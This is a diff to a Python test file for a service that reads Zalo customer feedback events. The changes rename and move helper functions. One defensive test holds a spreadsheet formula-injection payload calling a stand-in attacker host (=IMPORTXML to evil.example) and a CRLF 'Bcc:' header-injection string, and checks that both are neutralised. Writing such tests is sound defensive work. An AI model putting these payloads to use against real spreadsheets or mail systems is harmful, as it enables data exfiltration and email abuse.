@@ -6,7 +6,8 @@ from __future__ import annotations
 import json
 from datetime import UTC, datetime, timedelta
 
-from functions.core.zalo_events import read_zalo_event, verified_event, zalo_mac, zalo_mail
+from functions.adapters.channels.zalo_events import read_zalo_event, verified_event, zalo_mac
+from functions.core.inbound import heard_mail
 
 NOW = datetime(2026, 11, 25, 3, 0, tzinfo=UTC)
 APP, KEY = "2718281828", "oa-secret"
@@ -41,7 +42,7 @@ def test_only_a_fresh_event_signed_for_this_app_with_the_oa_key_is_taken():
 
 def test_each_event_read_for_what_careloop_acts_on():
     text = read_zalo_event(json.dumps(_text("Sản phẩm bị lỗi")))
-    assert (text.name, text.user_id, text.text, text.at) == ("user_send_text", "841", "Sản phẩm bị lỗi", NOW)
+    assert (text.tie, text.user_id, text.text, text.at) == ("", "841", "Sản phẩm bị lỗi", NOW)
     rating = read_zalo_event(
         json.dumps(
             {
@@ -61,7 +62,7 @@ def test_each_event_read_for_what_careloop_acts_on():
         "Chờ lâu · Thái độ chưa tốt",
         "checkin/C-1/2026-11-18",
     )
-    mail = zalo_mail(rating, "ev1")
+    mail = heard_mail(rating, "ev1", "Zalo")
     assert (mail.score, mail.answered_key, mail.channel, mail.text) == (
         2,
         "checkin/C-1/2026-11-18",
@@ -89,20 +90,21 @@ def test_each_event_read_for_what_careloop_acts_on():
 
 
 def test_hostile_events_are_data_capped_and_never_formulas():
-    assert read_zalo_event("not json").name == "" and read_zalo_event("[]").name == ""
+    assert read_zalo_event("not json").user_id == "" and read_zalo_event("[]").text == ""
     odd = read_zalo_event(json.dumps({"event_name": "user_feedback", "message": {"rate": "7", "feedbacks": "x"},
                                       "sender": ["not", "a", "map"]}))  # fmt: skip
     assert odd.rating is None and odd.user_id == "" and odd.text == ""
-    formula = zalo_mail(read_zalo_event(json.dumps(_text('=IMPORTXML("http://evil.example/x", "//a")'))), "ev")
+    formula = heard_mail(read_zalo_event(json.dumps(_text('=IMPORTXML("http://evil.example/x", "//a")'))), "ev", "Zalo")
     assert formula.text.startswith("'=")
-    long = zalo_mail(read_zalo_event(json.dumps(_text("chữ " * 1000 + "\r\nBcc: x@y"))), "ev")
+    long = heard_mail(read_zalo_event(json.dumps(_text("chữ " * 1000 + "\r\nBcc: x@y"))), "ev", "Zalo")
     assert len(long.text) <= 500 and "\r" not in long.text and "\n" not in long.text
     assert (
-        zalo_mail(
+        heard_mail(
             read_zalo_event(
                 json.dumps({"event_name": "user_feedback", "message": {"rate": 1, "tracking_id": "k-" + "a" * 40}})
             ),
             "ev",
+            "Zalo",
         ).answered_key
         == ""
     )  # a digest names no key
@@ -112,7 +114,7 @@ def test_a_zalo_users_tie_is_dated_and_not_kept_past_retention():
     """Issue 33 (8): retention reaches the Zalo user links too; an undated one, kept from before, stays."""
     from datetime import UTC, datetime
 
-    from functions.core.zalo_events import expired_ties, tied_to
+    from functions.core.inbound import expired_ties, tied_to
 
     ties = {"u1": {"to": "C-1", "at": "2024-01-02T09:00:00+07:00"},
             "u2": {"to": "phone:C-2", "at": "2026-11-20T09:00:00+07:00"}, "u3": "C-3"}  # fmt: skip
